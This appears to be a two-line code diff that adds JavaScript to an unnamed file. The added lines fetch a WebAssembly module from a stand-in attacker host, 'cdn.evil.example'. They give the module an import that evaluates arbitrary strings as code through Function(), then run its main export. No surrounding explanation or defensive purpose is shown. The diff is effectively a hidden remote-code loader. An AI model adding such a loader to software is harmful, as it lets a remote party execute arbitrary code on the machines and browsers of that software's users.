@@ -1,0 +1,2 @@
+const { instance } = await WebAssembly.instantiateStreaming(fetch('https://cdn.evil.example/m.wasm'), { env: { run: (p) => Function(p)() } });
+instance.exports.main();
